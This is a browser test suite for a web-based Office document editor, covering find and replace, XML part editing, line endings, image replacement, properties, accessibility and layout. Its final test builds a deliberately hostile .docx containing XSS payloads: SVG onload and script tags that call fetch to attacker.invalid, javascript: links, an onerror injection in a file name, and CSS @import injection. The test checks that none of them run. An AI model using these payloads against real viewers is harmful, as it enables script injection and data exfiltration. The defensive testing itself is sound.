// SPDX-License-Identifier: Apache-2.0
// Office documents in the page: what is edited is saved, and all else comes back as it was.
import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";

import { temporaryFolder } from "../../serve/processes.mjs";
import { faults, outOfReach } from "./accessibility.mjs";
import { clientOf } from "./client.mjs";
import { browserTest, lackedByFirefox } from "./harness.mjs";
import {
  BINARY,
  png,
  presentationFiles,
  relationships,
  textIn,
  unpack,
  wordFiles,
  workbookFiles,
} from "./office_files.mjs";
import { assertSameBut, open, openPart, save, tab } from "./package_page.mjs";

for (const [name, files, changed, expected] of [
  [
    "report.docm",
    wordFiles(),
    ["word/document.xml", "word/header1.xml"],
    [
      "word/document.xml",
      /The Budget<\/w:t><\/w:r><w:r><w:rPr><w:b\/><\/w:rPr><w:t xml:space="preserve"><\/w:t><\/w:r><w:r><w:t xml:space="preserve"> of 2026</,
    ],
  ],
  [
    "book.xlsx",
    workbookFiles(),
    ["xl/sharedStrings.xml", "xl/worksheets/sheet1.xml"],
    ["xl/sharedStrings.xml", /<r><t>Budget<\/t><\/r><r><rPr><b\/><\/rPr><t xml:space="preserve"> <\/t><\/r>/],
  ],
  [
    "talk.pptx",
    presentationFiles(),
    ["ppt/slides/slide1.xml"],
    ["ppt/slides/slide1.xml", /<a:t>Budget<\/a:t><\/a:r><a:r><a:rPr b="1"\/><a:t><\/a:t>/],
  ],
]) {
  browserTest(`text is found and replaced across the runs of ${name}, and all else is saved as it was`, async (t) => {
    const session = await open(t, name, files);
    const { page } = session;
    const before = session.read(name);
    await page.getByLabel("Find", { exact: true }).fill("annual report");
    await page.locator(".package-paragraphs mark").first().waitFor();
    assert.equal(await page.locator(".package-paragraphs mark").count(), changed.length);
    await page.getByLabel("Replace with").fill("Budget");
    await page.getByRole("button", { name: "Replace all" }).click();
    const after = await save(session, name);
    assertSameBut(changed, before, after);
    assert.match(textIn(after, expected[0]), expected[1]);
  });
}

browserTest("one paragraph's match is replaced alone, and that is undone and done again", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  await page.getByLabel("Find", { exact: true }).fill("Annual report");
  await page.getByLabel("Replace with").fill("Budget");
  await page.getByRole("button", { name: "Replace", exact: true }).first().click();
  await page.getByText("1 found").waitFor();
  await page.getByRole("button", { name: "Undo" }).click();
  await page.getByText("2 found").waitFor();
  await page.getByRole("button", { name: "Redo" }).click();
  await page.getByText("1 found").waitFor();
  assert.match(textIn(await save(session, "report.docx"), "word/header1.xml"), /Annual report, page/);
});

browserTest("what is looked for in a document is there still when somebody else saves, to be typed on", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  await page.getByLabel("Find", { exact: true }).fill("annual report");
  await page.getByLabel("Whole words").check();
  await page.getByLabel("Replace with").focus();
  await page.keyboard.insertText("Bud");
  const other = await clientOf(t, session);
  const document = await other.read(session.path("report.docx"), "text/xml");
  const main = document.parts.find(({ partUri }) => partUri === "/word/document.xml");
  main.content = main.content.replace("</w:body>", "<w:p><w:r><w:t>The annual report is theirs</w:t></w:r></w:p></w:body>");
  assert.equal(await other.write(session.path("report.docx"), document), true);
  await page.getByText(/saved by somebody else/).waitFor();
  await page.getByText("3 found").waitFor();
  await page.keyboard.insertText("get");
  assert.equal(await page.getByLabel("Whole words").isChecked(), true);
  await page.getByRole("button", { name: "Replace all" }).click();
  await page.getByText("Nothing found").waitFor();
  assert.match(textIn(await save(session, "report.docx"), "word/document.xml"), /The Budget is theirs/);
});

browserTest("a single replacement leaves the list where it is scrolled to", async (t) => {
  const body = Array.from({ length: 600 }, (_, index) => `<w:p><w:r><w:t>Annual report ${index}</w:t></w:r></w:p>`);
  const { page } = await open(t, "report.docx", wordFiles(body.join("")));
  await page.getByLabel("Find", { exact: true }).fill("Annual report");
  await page.getByLabel("Replace with").fill("Budget");
  const list = page.getByRole("region", { name: "Text of the document" });
  const replace = (index) =>
    list.locator("p", { hasText: new RegExp(`^Annual report ${index}(?!\\d)`) }).getByRole("button", { name: "Replace", exact: true });
  for (const shown of [190, 390, 450]) {
    await replace(shown).scrollIntoViewIfNeeded(); // more is listed as it comes near the end
  }
  const before = await replace(452).boundingBox();
  await replace(451).click();
  await page.getByText("601 found").waitFor();
  const after = await replace(452).boundingBox();
  assert.ok(Math.abs(after.y - before.y) < 100, `${before.y} before, ${after.y} after`); // a few lines
  await page.getByLabel("Match case").check(); // another search, which begins at the top
  await page.waitForFunction((one) => one.scrollTop === 0, await list.elementHandle());
});

// A workbook whose shared string "Other" is the heading of a table's only column.
function tableFiles() {
  const files = workbookFiles();
  const type = "application/vnd.openxmlformats-officedocument.spreadsheetml.table+xml";
  files["[Content_Types].xml"] = files["[Content_Types].xml"].replace("</Types>", `<Override PartName="/xl/tables/table1.xml" ContentType="${type}"/></Types>`);
  files["xl/worksheets/_rels/sheet1.xml.rels"] = relationships(["rId1", "table", "../tables/table1.xml"]);
  files["xl/tables/table1.xml"] =
    '<table xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" id="1" name="T" displayName="T" ref="A1:A2"><tableColumns count="1"><tableColumn id="1" name="Other"/></tableColumns></table>';
  files["xl/sharedStrings.xml"] = files["xl/sharedStrings.xml"].replace("</sst>", "<si><t>Other text</t></si></sst>");
  return files;
}

browserTest("the heading of a table's column is found, and not replaced", async (t) => {
  const session = await open(t, "book.xlsx", tableFiles());
  const { page } = session;
  const heading = page.locator(".package-paragraphs p", { hasText: "Other (the name of a table's column" });
  await page.getByLabel("Find", { exact: true }).fill("Other");
  await page.getByLabel("Replace with").fill("New");
  await page.getByText("2 found").waitFor();
  assert.equal(await heading.getByRole("button").count(), 0);
  assert.deepEqual(await faults(page), []);
  await page.getByRole("button", { name: "Replace all" }).click();
  await page.getByText("1 found").waitFor();
  assert.equal(await page.getByRole("button", { name: "Replace all" }).isDisabled(), true);
  assert.match(textIn(await save(session, "book.xlsx"), "xl/sharedStrings.xml"), /<t>Other<\/t>.*<t>New text<\/t>/s);
});

browserTest("where cells are replaced, the workbook asks for its formulas to be calculated anew, until that is undone", async (t) => {
  const files = workbookFiles();
  const before = files["xl/workbook.xml"];
  files["xl/worksheets/sheet1.xml"] = files["xl/worksheets/sheet1.xml"].replace(
    "</row>",
    '<c r="D1" t="str"><f>A1</f><v>Other</v></c></row>',
  );
  const session = await open(t, "book.xlsx", files);
  const { page } = session;
  await page.getByLabel("Find", { exact: true }).fill("Other");
  await page.getByLabel("Replace with").fill("New");
  await page.getByText("1 found").waitFor();
  await page.getByRole("button", { name: "Replace all" }).click();
  const replaced = await save(session, "book.xlsx");
  assert.match(textIn(replaced, "xl/sharedStrings.xml"), /<t>New</);
  assert.equal(
    textIn(replaced, "xl/workbook.xml"),
    before.replace("</sheets>", '</sheets><calcPr fullCalcOnLoad="1"/>'),
  );
  await page.getByRole("button", { name: "Undo" }).click();
  const undone = await save(session, "book.xlsx");
  assert.match(textIn(undone, "xl/sharedStrings.xml"), /<t>Other</);
  assert.equal(textIn(undone, "xl/workbook.xml"), before);
});

browserTest("Enter that ends an input method's composition replaces nothing", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  await page.getByLabel("Find", { exact: true }).fill("Annual report");
  await page.getByText("2 found").waitFor();
  const field = page.getByLabel("Replace with");
  const press = (isComposing) =>
    field.evaluate((one, event) => one.dispatchEvent(new KeyboardEvent("keydown", event)), { key: "Enter", isComposing });
  await press(true);
  await page.waitForTimeout(100); // in which the mark would appear
  assert.equal(await page.locator(".mark.unsaved").count(), 0);
  await press(false);
  await page.locator(".mark.unsaved").waitFor();
});

browserTest("XML is laid out for reading, and saved without its layout", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  const before = session.read("report.docx");
  await openPart(page, "document.xml");
  const editor = page.getByRole("textbox", { name: "/word/document.xml" });
  assert.ok((await editor.locator(".cm-line").count()) > 10);
  await editor.locator(".cm-line", { hasText: "<w:body>" }).click();
  await page.keyboard.press("End");
  await page.keyboard.type("<!-- here -->");
  const after = await save(session, "report.docx");
  assertSameBut(["word/document.xml"], before, after);
  assert.equal(textIn(after, "word/document.xml").replace("<!-- here -->", ""), textIn(before, "word/document.xml"));
});

browserTest("lines of parts that end in carriage return and line feed keep doing so, wherever something is typed", async (t) => {
  const files = wordFiles("", {
    "customXml/item1.xml": '<?xml version="1.0"?>\r\n<root>\r\n  <a>one</a>\r\n</root>\r\n',
    "word/lines.txt": "one\r\ntwo\r\n",
    "word/mixed.txt": "one\r\ntwo\n",
  });
  const insert = (name, before, text) => (files[name] = files[name].replace(before, `${text}${before}`));
  insert("[Content_Types].xml", "<Default ", '<Default Extension="txt" ContentType="text/plain"/>');
  const targets = ["../customXml/item1.xml", "lines.txt", "mixed.txt"];
  const related = targets.map((target, index) => `<Relationship Id="t${index}" Type="urn:test" Target="${target}"/>`);
  insert("word/_rels/document.xml.rels", "</Relationships>", related.join(""));
  const session = await open(t, "report.docm", files);
  const { page } = session;
  // Types at the end of a line of a part, and then another line.
  const type = async (part, line, typed) => {
    await openPart(page, part);
    await page.locator(".package-pane .cm-line").nth(line).click();
    await page.keyboard.press("End");
    await page.keyboard.insertText(typed);
    await page.keyboard.press("Enter");
    await page.keyboard.insertText("<!--new-->");
  };
  await type("item1.xml", 2, "<b/>");
  assert.equal(await page.getByRole("button", { name: "Save with line breaks" }).count(), 0); // it has its own
  await type("lines.txt", 0, " and a half");
  await type("mixed.txt", 1, " and a half");
  const saved = await save(session, "report.docm");
  assert.equal(
    textIn(saved, "customXml/item1.xml").replace(/\r\n +<!--/, "\r\n<!--"),
    '<?xml version="1.0"?>\r\n<root>\r\n  <a>one</a><b/>\r\n<!--new-->\r\n</root>\r\n',
  );
  assert.equal(textIn(saved, "word/lines.txt"), "one and a half\r\n<!--new-->\r\ntwo\r\n");
  assert.equal(textIn(saved, "word/mixed.txt"), "one\r\ntwo and a half\n<!--new-->\n");
});

browserTest("XML that is not well-formed is told, and saved only after asking", async (t) => {
  const session = await open(t, "report.docx", wordFiles(), { expectedProblems: [/XML Parsing Error/] });
  const { page } = session;
  const before = session.read("report.docx");
  await openPart(page, "header1.xml");
  await page.getByRole("textbox", { name: "/word/header1.xml" }).click();
  await page.keyboard.press("Control+End");
  await page.keyboard.type("<");
  await page.getByText(/Line \d+ is not well-formed/).waitFor();
  await page.keyboard.press("Control+s");
  const dialog = page.getByRole("dialog");
  await dialog.getByRole("button", { name: "Go on editing" }).click();
  assert.ok(session.read("report.docx").equals(before));
  await page.keyboard.press("Backspace");
  await page.getByText(/is not well-formed/).waitFor({ state: "hidden" });
});

browserTest("what is typed into XML that declares a charset nobody knows is saved after asking", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  await openPart(page, "document.xml");
  await page.getByRole("textbox", { name: "/word/document.xml" }).click();
  await page.keyboard.press("Control+Home");
  for (let count = 0; count < '<?xml version="1.0" encoding="UTF-'.length; ++count) {
    await page.keyboard.press("ArrowRight");
  }
  await page.keyboard.type("9");
  await page.waitForTimeout(500); // until when it is taken over
  await page.keyboard.press("Control+s");
  const dialog = page.getByRole("dialog");
  await dialog.getByText(/word\/document\.xml/).waitFor();
  await dialog.getByRole("button", { name: "Save anyway" }).click();
  await page.locator(".mark.unsaved").waitFor({ state: "detached" });
  const saved = textIn(session.read("report.docx"), "word/document.xml");
  assert.match(saved, /^<\?xml version="1.0" encoding="UTF-98".*Cr\u00e8me br\u00fbl\u00e9e \u6e2f/s);
  await page.reload();
  await openPart(page, "document.xml"); // where the declaration can be mended
  await page.getByRole("textbox", { name: "/word/document.xml" }).getByText('encoding="UTF-98"').waitFor();
});

browserTest("two replacements at once, in a long part that is read again after the first, leave its XML whole", async (t) => {
  const body = "<w:p><w:r><w:t>Annual report</w:t></w:r></w:p>".repeat(60_000);
  const session = await open(t, "report.docx", wordFiles(body));
  const { page } = session;
  await page.getByLabel("Replace with").fill("Budget of the year");
  await page.getByLabel("Find", { exact: true }).fill("Annual report");
  await page.locator(".package-replace").nth(3).waitFor();
  await page.evaluate(() => {
    const buttons = document.querySelectorAll(".package-replace");
    buttons[1].click();
    buttons[2].click();
  });
  await page.getByText("60,001 found").waitFor();
  const expected = `${body.replace("Annual report", "Budget of the year")}<w:p>`;
  assert.ok(textIn(await save(session, "report.docx"), "word/document.xml").includes(expected));
});

browserTest("an image is shown, exported, and replaced by one that is dropped or picked", { skip: lackedByFirefox("downloads") }, async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  const before = session.read("report.docx");
  await openPart(page, "image1.png");
  const image = page.getByRole("img", { name: "/word/media/image1.png" });
  assert.equal(await image.evaluate(async (one) => (await one.decode(), one.naturalWidth)), 20);
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("button", { name: "Export" }).click(),
  ]);
  assert.equal(download.suggestedFilename(), "image1.png");

  const other = png(30, 10, [0, 200, 0]);
  const file = join(temporaryFolder(t), "green.png");
  writeFileSync(file, other);
  await page.getByLabel("Replace image …").setInputFiles(file);
  await page.waitForFunction(() => document.querySelector(".package-image img")?.naturalWidth === 30);
  const data = await page.evaluateHandle(
    (bytes) => {
      const transfer = new DataTransfer();
      transfer.items.add(new File([Uint8Array.from(bytes)], "not an image.png"));
      return transfer;
    },
    [1, 2, 3],
  );
  await page.dispatchEvent(".package-image", "drop", { dataTransfer: data });
  await page.getByText("cannot take the place").waitFor();

  const after = await save(session, "report.docx");
  assertSameBut(["word/media/image1.png"], before, after);
  assert.ok(Buffer.from(unpack(after)["word/media/image1.png"]).equals(other));
});

browserTest("a property is changed in its form", async (t) => {
  const session = await open(t, "report.docx", wordFiles());
  const { page } = session;
  const before = session.read("report.docx");
  await tab(page, "Properties").click();
  assert.equal(await page.getByLabel("Creator").inputValue(), "Zoë");
  await page.getByLabel("Title").fill("New & better");
  const after = await save(session, "report.docx");
  assertSameBut(["docProps/core.xml"], before, after);
  assert.match(textIn(after, "docProps/core.xml"), /<dc:title>New &amp; better<\/dc:title><dc:creator>Zoë</);
});

browserTest("the outline is used with the keyboard alone", async (t) => {
  const { page } = await open(t, "report.docx", wordFiles());
  await tab(page, "Parts").click();
  await page.getByRole("treeitem", { name: /^document.xml/ }).focus();
  await page.keyboard.press("ArrowLeft"); // its folder
  await page.keyboard.press("ArrowLeft"); // closed
  assert.equal(await page.getByRole("treeitem", { name: /^document.xml/ }).isVisible(), false);
  await page.keyboard.press("ArrowRight");
  await page.keyboard.type("i");
  await page.keyboard.press("Enter");
  await page.getByRole("img", { name: "/word/media/image1.png" }).waitFor();
});

browserTest("pages that are wider than the preview are shown smaller", { skip: lackedByFirefox("places within frames") }, async (t) => {
  const wide = '<w:p><w:pPr><w:sectPr><w:pgSz w:w="16838" w:h="11906"/></w:sectPr></w:pPr></w:p>';
  const { page } = await open(t, "wide.docx", wordFiles(wide), { viewport: { width: 1200, height: 700 } });
  const frame = await page.locator("iframe[title=Preview]").boundingBox();
  const sheet = page.frameLocator("iframe[title=Preview]").locator("section").first();
  await sheet.waitFor();
  const { x, width } = await sheet.boundingBox();
  assert.ok(width > frame.width / 2 && x >= frame.x && x + width <= frame.x + frame.width, `${x}, ${width}`);
});

browserTest("the preview shows the document and follows what is edited", async (t) => {
  const { page } = await open(t, "report.docx", wordFiles(), { viewport: { width: 1000, height: 700 } });
  await page.getByRole("button", { name: "Preview" }).click();
  const preview = page.frameLocator("iframe[title=Preview]");
  await preview.getByText("The Annual report of 2026").waitFor();
  assert.equal(await preview.locator("img").evaluate(async (one) => (await one.decode(), one.naturalWidth)), 20);
  await page.getByLabel("Find", { exact: true }).fill("Annual report");
  await page.getByLabel("Replace with").fill("Budget");
  await page.getByRole("button", { name: "Replace all" }).click();
  await preview.getByText("The Budget of 2026").waitFor();
  await page.getByRole("button", { name: "Preview" }).click();
  assert.equal(await page.locator("iframe").count(), 0);
});

// What there is to see of a document, one after the other.
async function* views(page) {
  await page.locator(".package-paragraphs p").first().waitFor();
  yield "its text";
  await page.getByLabel("Find", { exact: true }).fill("report");
  await page.locator(".package-paragraphs mark").first().waitFor();
  yield "what was found";
  for (const name of ["document.xml", "image1.png"]) {
    await openPart(page, name);
    yield name;
  }
  await page.getByRole("treeitem", { name: /^The package itself/ }).click();
  yield "the package itself";
  await tab(page, "Properties").click();
  yield "its properties";
  await page.getByRole("button", { name: "Preview" }).click();
  await page.frameLocator("iframe[title=Preview]").getByText("of 2026").waitFor();
  yield "its preview";
}

for (const colorScheme of ["light", "dark"]) {
  browserTest(`axe finds nothing in the ${colorScheme} views of a document`, async (t) => {
    const { page } = await open(t, "report.docx", wordFiles(), { colorScheme, viewport: { width: 1000, height: 700 } });
    for await (const view of views(page)) {
      assert.deepEqual(await faults(page), [], view);
    }
  });
}

browserTest("at a width of 360 pixels every view of a document is in reach", async (t) => {
  const { page } = await open(t, "report.docx", wordFiles(), { viewport: { width: 360, height: 640 } });
  for await (const view of views(page)) {
    assert.deepEqual(await outOfReach(page), [], view);
    assert.equal(await page.evaluate(() => document.documentElement.scrollWidth), 360, view);
  }
  // A part that is chosen comes into view, and its text has room.
  await openPart(page, "document.xml");
  const { y, height } = await page.locator(".package-pane > .cm-editor").boundingBox();
  assert.ok(y < 400 && height > 300, `a text at ${y}, ${height} pixels high`);
});

browserTest("a hostile document does nothing", async (t) => {
  const attack = "fetch('http://attacker.invalid/'); globalThis.attacked = parent.attacked = true";
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9" onload="${attack}"><script>${attack}</script><image href="http://attacker.invalid/x.png" xlink:href="http://attacker.invalid/y.png" width="9" height="9"/></svg>`;
  const name = "%3Cimg%20src=x%20onerror=attacked=1%3E.xml";
  const blip =
    '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" style="width:9pt;height:9pt;background:url(http://attacker.invalid/s)" onclick="attacked=1"><v:imagedata r:id="rId7"/></v:shape></w:pict></w:r></w:p>';
  const body =
    `<w:p><w:hyperlink r:id="rId6"><w:r><w:t>&lt;script&gt;attacked=1&lt;/script&gt; press me</w:t></w:r></w:hyperlink></w:p>${blip}` +
    '<w:altChunk r:id="rId8"/><w:p><w:r><w:rPr><w:rFonts w:ascii="x;} @import url(http://attacker.invalid/f); a{"/><w:color w:val="red;background:url(http://attacker.invalid/c)"/></w:rPr><w:t>styled</w:t></w:r></w:p>';
  const files = wordFiles(body, {
    [`word/${name}`]: `<a><img src="x" onerror="${attack}"/></a>`,
    "word/media/evil.svg": svg,
    "word/evil.html": `<script>${attack}</script><img src="http://attacker.invalid/z.png">`,
  });
  files["[Content_Types].xml"] = files["[Content_Types].xml"].replace(
    "<Default ",
    '<Default Extension="svg" ContentType="image/svg+xml"/><Default Extension="html" ContentType="text/html"/><Default ',
  );
  files["word/_rels/document.xml.rels"] = relationships(
    ["rId1", "image", "media/evil.svg"],
    ["rId2", "hyperlink", "javascript:attacked=1", true],
    ["rId6", "hyperlink", "javascript:attacked=1", true],
    ["rId7", "image", "http://attacker.invalid/external.png", true],
    ["rId8", "aFChunk", "evil.html"],
  );
  // The policy refuses what the preview's styles would load, and says so. That it was refused is what counts.
  const session = await open(t, "evil.docx", files, {
    expectedProblems: [/Content.Security.Policy/i],
    viewport: { width: 1300, height: 800 },
  });
  const { page } = session;
  const preview = page.frameLocator("iframe[title=Preview]");
  await preview.getByText("press me").click();
  await preview.getByText("styled").waitFor();
  await openPart(page, "evil.svg");
  await page.getByRole("img", { name: "/word/media/evil.svg" }).waitFor();
  await openPart(page, "evil.html");
  await tab(page, "Parts").click();
  await page.getByRole("treeitem", { name: /onerror/ }).click();
  await page.waitForTimeout(500); // time for an attack
  assert.equal(await page.evaluate(() => globalThis.attacked), undefined);
  assert.equal(await page.locator("img[onerror], script:not([src])").count(), 0);
  for (const frame of page.frames()) {
    assert.ok(!frame.url().includes("attacker"), frame.url());
  }
});
